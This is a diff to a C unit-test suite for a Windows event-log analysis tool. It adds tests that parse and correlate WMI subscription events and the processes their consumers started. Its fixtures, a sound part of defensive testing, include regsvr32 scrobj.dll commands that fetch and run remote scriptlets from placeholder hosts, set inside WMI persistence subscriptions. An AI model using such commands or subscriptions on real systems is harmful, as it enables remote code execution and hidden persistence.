@@ -3,13 +3,15 @@
  * model: PowerShell 4104 script blocks joined from their parts (in
  * order, out of order, missing, repeated, cut), scheduled-task XML
  * (well-formed and hostile), services (7045 / 4697), Sysmon 22 / 11,
- * and which of them make a host examinable.
+ * WMI subscriptions (Sysmon 19 / 20 / 21, WMI-Activity 5861), and which
+ * of them make a host examinable.
  */
 #include <check.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
 
+#include "correlate.h"
 #include "ev_arena.h"
 #include "ev_util.h"
 #include "event.h"
@@ -67,7 +69,14 @@ START_TEST(test_classify_sources)
 		{ EV_PROVIDER_SECURITY, 4702, EV_KIND_TASK },
 		{ EV_PROVIDER_SYSMON, 22, EV_KIND_DNS },
 		{ EV_PROVIDER_SYSMON, 11, EV_KIND_FILE },
+		{ EV_PROVIDER_SYSMON, 19, EV_KIND_WMI },
+		{ EV_PROVIDER_SYSMON, 20, EV_KIND_WMI },
+		{ EV_PROVIDER_SYSMON, 21, EV_KIND_WMI },
+		{ EV_PROVIDER_WMI, 5861, EV_KIND_WMI },
 		/* the provider is checked with the id */
+		{ EV_PROVIDER_SECURITY, 20, EV_KIND_NONE },
+		{ EV_PROVIDER_SYSMON, 5861, EV_KIND_NONE },
+		{ EV_PROVIDER_WMI, 5860, EV_KIND_NONE },
 		{ EV_PROVIDER_SYSMON, 4104, EV_KIND_NONE },
 		{ EV_PROVIDER_SECURITY, 7045, EV_KIND_NONE },
 		{ "Fake-Provider", 4698, EV_KIND_NONE },
@@ -80,6 +89,7 @@ START_TEST(test_classify_sources)
 	ck_assert_str_eq(ev_kind_name(EV_KIND_SCRIPT), "script_block");
 	ck_assert_str_eq(ev_kind_name(EV_KIND_DNS), "dns_query");
 	ck_assert_str_eq(ev_kind_name(EV_KIND_FILE), "file_create");
+	ck_assert_str_eq(ev_kind_name(EV_KIND_WMI), "wmi");
 }
 END_TEST
 
@@ -366,6 +376,381 @@ START_TEST(test_powershell_pipeline)
 }
 END_TEST
 
+
+/* ---- WMI subscriptions: Sysmon 19, 20, 21, WMI-Activity 5861 ---- */
+
+#define SYSMON_CHAN	"Microsoft-Windows-Sysmon/Operational"
+#define WMI_CHAN	"Microsoft-Windows-WMI-Activity/Operational"
+
+START_TEST(test_wmi_sysmon)
+{
+	/* as Sysmon logs them: a blank, quotes, backslash escapes */
+	static const struct ev_pair f[] = {
+		{ "EventType", "WmiFilterEvent" }, { "Operation", "Created" },
+		{ "User", "CORP\\bob" },
+		{ "EventNamespace", " \"root\\\\cimv2\"" },
+		{ "Name", " \"Upd \\\"x\\\"\"" },
+		{ "Query", " \"SELECT * FROM __InstanceModificationEvent\"" },
+	};
+	static const struct ev_pair c[] = {
+		{ "Operation", "Created" }, { "User", "CORP\\bob" },
+		{ "Name", " \"Upd\"" }, { "Type", "Command Line" },
+		{ "Destination", " \"C:\\\\Windows\\\\System32\\\\regsvr32.exe "
+		    "/s /i:http://x/p.sct scrobj.dll\"" },
+	};
+	static const struct ev_pair sc[] = {
+		{ "Name", "\"S\"" }, { "Type", "Script" },
+		{ "Destination", " \"GetObject(\\\"winmgmts:\\\")\"" },
+	};
+	static const struct ev_pair b[] = {
+		{ "Operation", "Created" },
+		{ "Consumer", " \"\\\\\\\\.\\\\root\\\\subscription:"
+		    "CommandLineEventConsumer.Name=\\\"Upd\\\"\"" },
+		{ "Filter", " \"\\\\\\\\.\\\\root\\\\subscription:"
+		    "__EventFilter.Name=\\\"Upd \\\\\\\"x\\\\\\\"\\\"\"" },
+	};
+	struct ev_event *ev;
+
+	ev = normalised(EV_PROVIDER_SYSMON, SYSMON_CHAN, 19, f, NELEM(f));
+	ck_assert_int_eq(ev->kind, EV_KIND_WMI);
+	ck_assert_str_eq(ev->col[EV_COL_WMI_FILTER], "Upd \"x\"");
+	ck_assert_str_eq(ev->col[EV_COL_WMI_NAMESPACE], "root\\cimv2");
+	ck_assert_str_eq(ev->col[EV_COL_WMI_QUERY],
+	    "SELECT * FROM __InstanceModificationEvent");
+	ck_assert_str_eq(ev->col[EV_COL_WMI_OPERATION], "Created");
+	ck_assert_str_eq(ev->col[EV_COL_USER], "CORP\\bob");
+	ck_assert(!ev_examinable(ev));
+
+	ev = normalised(EV_PROVIDER_SYSMON, SYSMON_CHAN, 20, c, NELEM(c));
+	ck_assert_str_eq(ev->col[EV_COL_WMI_CONSUMER], "Upd");
+	ck_assert_str_eq(ev->col[EV_COL_WMI_CONSUMER_CLASS],
+	    "CommandLineEventConsumer");
+	ck_assert_str_eq(ev->col[EV_COL_COMMAND_LINE],
+	    "C:\\Windows\\System32\\regsvr32.exe /s /i:http://x/p.sct "
+	    "scrobj.dll");
+	ck_assert_str_eq(ev->col[EV_COL_IMAGE],
+	    "C:\\Windows\\System32\\regsvr32.exe");
+	ck_assert_ptr_null(ev->col[EV_COL_SCRIPT_TEXT]);
+	ck_assert(ev_examinable(ev));
+
+	ev = normalised(EV_PROVIDER_SYSMON, SYSMON_CHAN, 20, sc, NELEM(sc));
+	ck_assert_str_eq(ev->col[EV_COL_WMI_CONSUMER_CLASS],
+	    "ActiveScriptEventConsumer");
+	ck_assert_str_eq(ev->col[EV_COL_SCRIPT_TEXT],
+	    "GetObject(\"winmgmts:\")");
+	ck_assert_ptr_null(ev->col[EV_COL_COMMAND_LINE]);
+	ck_assert(ev_examinable(ev));
+
+	ev = normalised(EV_PROVIDER_SYSMON, SYSMON_CHAN, 21, b, NELEM(b));
+	ck_assert_str_eq(ev->col[EV_COL_WMI_CONSUMER], "Upd");
+	ck_assert_str_eq(ev->col[EV_COL_WMI_CONSUMER_CLASS],
+	    "CommandLineEventConsumer");
+	ck_assert_str_eq(ev->col[EV_COL_WMI_FILTER], "Upd \"x\"");
+	ck_assert_ptr_null(ev->col[EV_COL_COMMAND_LINE]);
+}
+END_TEST
+
+#define CAUSE_FILTER \
+	"Binding EventFilter: \n" \
+	"instance of __EventFilter\n{\n" \
+	"\tCreatorSID = {1, 2, 0, 0, 0, 0, 0, 5, 32, 0, 0, 0, 32, 2, 0, 0};\n" \
+	"\tEventNamespace = \"root\\\\cimv2\";\n" \
+	"\tName = \"Upd\";\n" \
+	"\tQuery = \"SELECT * FROM __InstanceModificationEvent WITHIN 60 " \
+	"WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'\";\n" \
+	"\tQueryLanguage = \"WQL\";\n};\n"
+
+START_TEST(test_wmi_5861)
+{
+	static const struct ev_pair d[] = {
+		{ "Namespace", "//./root/subscription" },
+		{ "ESS", "Upd" },
+		{ "CONSUMER", "CommandLineEventConsumer=\"Upd\"" },
+		{ "PossibleCause", CAUSE_FILTER "Perm. Consumer: \n"
+		    "instance of CommandLineEventConsumer\n{\n"
+		    "\tCommandLineTemplate = \"C:\\\\Windows\\\\System32\\\\"
+		    "regsvr32.exe /s /n /u /i:http://x/p.sct scrobj.dll\";\n"
+		    "\tCreatorSID = {1, 5};\n\tName = \"Upd\";\n};\n" },
+	};
+	static const struct ev_pair script[] = {
+		{ "ESS", "" },
+		{ "CONSUMER", "" },
+		{ "PossibleCause", CAUSE_FILTER "Perm. Consumer: \n"
+		    "instance of ActiveScriptEventConsumer\n{\n"
+		    "\tName = \"S\";\n\tScriptingEngine = \"JScript\";\n"
+		    "\tScriptText = \"var a = \\\"b;c\\\";\\nrun(a);\";\n};\n" },
+	};
+	static const struct ev_pair evlog[] = {
+		{ "Namespace", "//./root/subscription" },
+		{ "ESS", "SCM Event Log Filter" },
+		{ "CONSUMER", "NTEventLogEventConsumer=\"SCM Event Log Consumer\"" },
+		{ "PossibleCause", "Binding EventFilter: \ninstance of "
+		    "__EventFilter\n{\n\tName = \"SCM Event Log Filter\";\n};\n"
+		    "Perm. Consumer: \ninstance of NTEventLogEventConsumer\n{\n"
+		    "\tName = \"SCM Event Log Consumer\";\n"
+		    "\tSourceName = \"Service Control Manager\";\n};\n" },
+	};
+	struct ev_event *ev;
+
+	ev = normalised(EV_PROVIDER_WMI, WMI_CHAN, 5861, d, NELEM(d));
+	ck_assert_int_eq(ev->kind, EV_KIND_WMI);
+	ck_assert_str_eq(ev->col[EV_COL_WMI_FILTER], "Upd");
+	ck_assert_str_eq(ev->col[EV_COL_WMI_CONSUMER], "Upd");
+	ck_assert_str_eq(ev->col[EV_COL_WMI_CONSUMER_CLASS],
+	    "CommandLineEventConsumer");
+	ck_assert_str_eq(ev->col[EV_COL_WMI_NAMESPACE], "root\\cimv2");
+	ck_assert_str_eq(ev->col[EV_COL_WMI_QUERY], "SELECT * FROM "
+	    "__InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "
+	    "'Win32_PerfFormattedData_PerfOS_System'");
+	ck_assert_str_eq(ev->col[EV_COL_COMMAND_LINE],
+	    "C:\\Windows\\System32\\regsvr32.exe /s /n /u /i:http://x/p.sct "
+	    "scrobj.dll");
+	ck_assert_str_eq(ev->col[EV_COL_IMAGE],
+	    "C:\\Windows\\System32\\regsvr32.exe");
+	ck_assert_ptr_null(ev->col[EV_COL_WMI_OPERATION]);
+	ck_assert(ev_examinable(ev));
+
+	/* names from the MOF when ESS and CONSUMER are empty; a script */
+	ev = normalised(EV_PROVIDER_WMI, WMI_CHAN, 5861, script,
+	    NELEM(script));
+	ck_assert_str_eq(ev->col[EV_COL_WMI_FILTER], "Upd");
+	ck_assert_str_eq(ev->col[EV_COL_WMI_CONSUMER], "S");
+	ck_assert_str_eq(ev->col[EV_COL_WMI_CONSUMER_CLASS],
+	    "ActiveScriptEventConsumer");
+	ck_assert_str_eq(ev->col[EV_COL_SCRIPT_TEXT],
+	    "var a = \"b;c\";\nrun(a);");
+	ck_assert_ptr_null(ev->col[EV_COL_COMMAND_LINE]);
+
+	/* Windows' own: runs nothing, so shows nothing of what ran */
+	ev = normalised(EV_PROVIDER_WMI, WMI_CHAN, 5861, evlog,
+	    NELEM(evlog));
+	ck_assert_str_eq(ev->col[EV_COL_WMI_CONSUMER_CLASS],
+	    "NTEventLogEventConsumer");
+	ck_assert_str_eq(ev->col[EV_COL_WMI_NAMESPACE],
+	    "//./root/subscription");
+	ck_assert_ptr_null(ev->col[EV_COL_WMI_QUERY]);
+	ck_assert(!ev_examinable(ev));
+}
+END_TEST
+
+/* Hostile values: missing, unterminated, odd, huge. */
+START_TEST(test_wmi_hostile)
+{
+	static const struct ev_pair none[] = { { "Other", "x" } };
+	static const struct ev_pair odd[] = {
+		{ "Name", "   " },
+		{ "Consumer", " \"no name here" },
+		{ "Filter", "\"\\\\.\\root:__EventFilter.Name=\\\"open" },
+		{ "Destination", "\"\\" },
+	};
+	static const struct ev_pair cause[] = {
+		{ "PossibleCause", "instance of\n{ = ; Name = \"unterminated" },
+		{ "CONSUMER", "=\"" },
+	};
+	const char *ids[] = { "19", "20", "21" };
+	size_t big = 1u << 21;
+	char *huge = malloc(big + 8);
+	struct ev_pair hd[2];
+	struct ev_event *ev;
+
+	for (size_t i = 0; i < NELEM(ids); i++) {
+		uint32_t id = (uint32_t)atoi(ids[i]);
+
+		ev = normalised(EV_PROVIDER_SYSMON, SYSMON_CHAN, id, none, 1);
+		ck_assert_int_eq(ev->kind, EV_KIND_WMI);
+		for (int c = EV_COL_WMI_OPERATION; c <= EV_COL_WMI_QUERY; c++)
+			ck_assert_ptr_null(ev->col[c]);
+		ck_assert_ptr_null(ev->col[EV_COL_COMMAND_LINE]);
+		ev = normalised(EV_PROVIDER_SYSMON, SYSMON_CHAN, id, odd,
+		    NELEM(odd));
+	}
+	ck_assert_str_eq(ev->col[EV_COL_WMI_CONSUMER_CLASS], "no name here");
+	ck_assert_ptr_null(ev->col[EV_COL_WMI_CONSUMER]);
+	ck_assert_str_eq(ev->col[EV_COL_WMI_FILTER], "open");
+	ev = normalised(EV_PROVIDER_WMI, WMI_CHAN, 5861, cause, NELEM(cause));
+	ck_assert_ptr_null(ev->col[EV_COL_WMI_CONSUMER]);
+	ck_assert_ptr_null(ev->col[EV_COL_WMI_FILTER]);
+	ev = normalised(EV_PROVIDER_WMI, WMI_CHAN, 5861, none, 1);
+	ck_assert_ptr_null(ev->col[EV_COL_WMI_FILTER]);
+
+	/* a 2 MiB Destination is kept whole; a 2 MiB PossibleCause is
+	   read to EV_WMI_TEXT_MAX: the command after it is not seen */
+	ck_assert_ptr_nonnull(huge);
+	memcpy(huge, " \"", 2);
+	memset(huge + 2, 'a', big);
+	memcpy(huge + 2 + big, "\"", 2);
+	hd[0] = (struct ev_pair){ "Type", "Command Line" };
+	hd[1] = (struct ev_pair){ "Destination", huge };
+	ev = normalised(EV_PROVIDER_SYSMON, SYSMON_CHAN, 20, hd, 2);
+	ck_assert_uint_eq(strlen(ev->col[EV_COL_COMMAND_LINE]), big);
+	memset(huge, ' ', big);
+	memcpy(huge + big - 8, "\nA = \"b\"", 9);
+	memcpy(huge, "instance of X\n{\n", 16);
+	memcpy(huge + big - 40, "\tCommandLineTemplate = \"a.exe\";\n", 32);
+	hd[0] = (struct ev_pair){ "PossibleCause", huge };
+	ev = normalised(EV_PROVIDER_WMI, WMI_CHAN, 5861, hd, 1);
+	ck_assert_ptr_null(ev->col[EV_COL_COMMAND_LINE]);
+	memcpy(huge + 100, "\tCommandLineTemplate = \"b.exe\";\n", 32);
+	ev = normalised(EV_PROVIDER_WMI, WMI_CHAN, 5861, hd, 1);
+	ck_assert_str_eq(ev->col[EV_COL_COMMAND_LINE], "b.exe");
+	free(huge);
+}
+END_TEST
+
+
+/* ---- WMI: the join by name and the processes a consumer started ---- */
+
+static struct ev_event *
+wmi_at(const char *host, uint64_t t, uint32_t id, const struct ev_pair *d,
+    uint32_t n)
+{
+	struct ev_event *ev = normalised(id == 5861 ? EV_PROVIDER_WMI :
+	    EV_PROVIDER_SYSMON, id == 5861 ? WMI_CHAN : SYSMON_CHAN, id, d, n);
+
+	ev->col[EV_COL_COMPUTER] = host;
+	ev->time = t;
+	return ev;
+}
+
+static struct ev_event *
+wmi_consumer(const char *host, uint64_t t, const char *name,
+    const char *dst)
+{
+	struct ev_pair *d = ev_arena_alloc(&arena, 3 * sizeof(*d));
+
+	ck_assert_ptr_nonnull(d);
+	d[0] = (struct ev_pair){ "Name", name };
+	d[1] = (struct ev_pair){ "Type", "Command Line" };
+	d[2] = (struct ev_pair){ "Destination", dst };
+	return wmi_at(host, t, 20, d, 3);
+}
+
+static struct ev_event *
+wmi_proc(const char *host, uint64_t t, const char *guid, const char *cmd,
+    const char *parent)
+{
+	struct ev_pair *d = ev_arena_alloc(&arena, 6 * sizeof(*d));
+
+	ck_assert_ptr_nonnull(d);
+	d[0] = (struct ev_pair){ "ProcessGuid", guid };
+	d[1] = (struct ev_pair){ "ProcessId", "4242" };
+	d[2] = (struct ev_pair){ "Image",
+	    "C:\\Windows\\System32\\regsvr32.exe" };
+	d[3] = (struct ev_pair){ "CommandLine", cmd };
+	d[4] = (struct ev_pair){ "ParentImage", parent };
+	d[5] = (struct ev_pair){ "ParentProcessGuid", "{none}" };
+	return wmi_at(host, t, 1, d, 6);
+}
+
+#define SCRCONS	"C:\\Windows\\System32\\wbem\\scrcons.exe"
+
+START_TEST(test_wmi_correlate)
+{
+	static const struct ev_pair filt[] = { { "Name", " \"X\"" },
+	    { "Query", " \"SELECT 1\"" } };
+	static const struct ev_pair bind[] = {
+		{ "Consumer", " \"CommandLineEventConsumer.Name=\\\"x\\\"\"" },
+		{ "Filter", " \"__EventFilter.Name=\\\"X\\\"\"" },
+	};
+	struct ev_event *v[16];
+	size_t n = 0;
+	struct corr *c;
+	struct corr_wmi w;
+	const struct ev_event *ran[4];
+
+	/* one name on two hosts, and re-registered (case differs) on A */
+	v[n++] = wmi_at("A", 10, 19, filt, NELEM(filt));
+	v[n++] = wmi_consumer("A", 11, " \"X\"", " \"regsvr32 /s /i:http://a/1.sct"
+	    " scrobj.dll\"");
+	v[n++] = wmi_consumer("B", 12, " \"X\"", " \"regsvr32 /s /i:http://b/2.sct"
+	    " scrobj.dll\"");
+	v[n++] = wmi_at("A", 13, 21, bind, NELEM(bind));
+	v[n++] = wmi_consumer("A", 14, " \"x\"", " \"C:\\\\Windows\\\\System32\\\\"
+	    "regsvr32.exe /s /i:http://a/3.sct scrobj.dll\"");
+	/* A: started by the consumer host with the latest command */
+	v[n++] = wmi_proc("A", 20, "{p1}", "C:\\Windows\\System32\\regsvr32.exe"
+	    " /s /i:http://a/3.sct scrobj.dll", SCRCONS);
+	/* A: the first consumer's command, but replaced since: not it */
+	v[n++] = wmi_proc("A", 21, "{p2}", "regsvr32 /s /i:http://a/1.sct "
+	    "scrobj.dll", "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe");
+	/* B: its own consumer, the host's name alike */
+	v[n++] = wmi_proc("B", 22, "{p3}", "regsvr32.exe /s /i:http://b/2.sct "
+	    "scrobj.dll", "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe");
+	/* A: the command, but from explorer: not the consumer's */
+	v[n++] = wmi_proc("A", 23, "{p4}", "regsvr32 /s /i:http://a/3.sct "
+	    "scrobj.dll", "C:\\Windows\\explorer.exe");
+	for (size_t i = 0; i < n; i++)
+		v[i]->seq = (uint32_t)i;
+	ck_assert_int_eq(corr_build(v, n, &c, NULL), 0);
+	ck_assert_ptr_eq(corr_origin(c, v[5]), v[4]);
+	ck_assert_ptr_null(corr_origin(c, v[6]));
+	ck_assert_ptr_eq(corr_origin(c, v[7]), v[2]);
+	ck_assert_ptr_null(corr_origin(c, v[8]));
+	ck_assert_uint_eq(corr_started(c, v[4], ran, 4), 1);
+	ck_assert_ptr_eq(ran[0], v[5]);
+	ck_assert_uint_eq(corr_started(c, v[1], ran, 4), 0);
+	/* the join: per host, names ignoring case, the latest */
+	ck_assert(corr_wmi(c, v[3], &w));
+	ck_assert_ptr_eq(w.filter, v[0]);
+	ck_assert_ptr_eq(w.consumer, v[4]);
+	ck_assert_ptr_eq(w.binding, v[3]);
+	ck_assert_ptr_null(w.registered);
+	ck_assert(corr_wmi(c, v[0], &w));
+	ck_assert_ptr_eq(w.consumer, v[4]);
+	ck_assert_ptr_eq(w.binding, v[3]);
+	ck_assert(corr_wmi(c, v[2], &w));
+	ck_assert_ptr_eq(w.consumer, v[2]);
+	ck_assert_ptr_null(w.filter);
+	ck_assert_ptr_null(w.binding);
+	ck_assert(!corr_wmi(c, v[5], &w));
+	ck_assert_ptr_null(w.consumer);
+	corr_free(c);
+}
+END_TEST
+
+/* Hostile: arguments longer than a command line; many consumers of one
+   image (at most 64 tried per process); names everywhere alike. */
+START_TEST(test_wmi_correlate_bounds)
+{
+	enum { NC = 20000 };
+	size_t len = 40000, n = 0;
+	char *big = malloc(len + 64), *cmd = malloc(len + 64);
+	struct ev_event **v = calloc(NC + 4, sizeof(*v));
+	struct corr *c;
+	struct corr_wmi w;
+
+	ck_assert(big != NULL && cmd != NULL && v != NULL);
+	memcpy(big, " \"regsvr32.exe ", 15);
+	memset(big + 15, 'a', len);
+	memcpy(big + 15 + len, "\"", 2);
+	memcpy(cmd, "regsvr32.exe ", 13);
+	memset(cmd + 13, 'a', len);
+	cmd[13 + len] = '\0';
+	for (int i = 0; i < NC; i++)
+		v[n++] = wmi_consumer("A", 2, " \"Same\"",
+		    " \"regsvr32.exe /s /i:http://x/y.sct\"");
+	v[n++] = wmi_consumer("A", 2, " \"Big\"", big);
+	v[n++] = wmi_proc("A", 3, "{q1}", cmd, SCRCONS);
+	v[n++] = wmi_proc("A", 4, "{q2}", "regsvr32.exe /s /i:http://x/y.sct",
+	    SCRCONS);
+	for (size_t i = 0; i < n; i++)
+		v[i]->seq = (uint32_t)i;
+	ck_assert_int_eq(corr_build(v, n, &c, NULL), 0);
+	/* 40000 bytes of arguments: longer than Windows allows, no tie */
+	ck_assert_ptr_null(corr_origin(c, v[n - 2]));
+	/* the latest of 20000 alike; the others were registered again */
+	ck_assert_ptr_eq(corr_origin(c, v[n - 1]), v[NC - 1]);
+	ck_assert(corr_wmi(c, v[0], &w));
+	ck_assert_ptr_eq(w.consumer, v[NC - 1]);
+	ck_assert(corr_wmi(c, v[NC], &w));
+	ck_assert_ptr_eq(w.consumer, v[NC]);
+	corr_free(c);
+	free(big);
+	free(cmd);
+	free(v);
+}
+END_TEST
+
 /* ---- script blocks ---- */
 
 #define PS_CHAN	"Microsoft-Windows-PowerShell/Operational"
@@ -527,6 +912,11 @@ sources_suite(void)
 	tcase_add_test(tc, test_task_4698);
 	tcase_add_test(tc, test_sysmon_dns_file);
 	tcase_add_test(tc, test_powershell_pipeline);
+	tcase_add_test(tc, test_wmi_sysmon);
+	tcase_add_test(tc, test_wmi_5861);
+	tcase_add_test(tc, test_wmi_hostile);
+	tcase_add_test(tc, test_wmi_correlate);
+	tcase_add_test(tc, test_wmi_correlate_bounds);
 	tcase_add_test(tc, test_script_one_part);
 	tcase_add_test(tc, test_script_join);
 	tcase_add_test(tc, test_script_hosts);
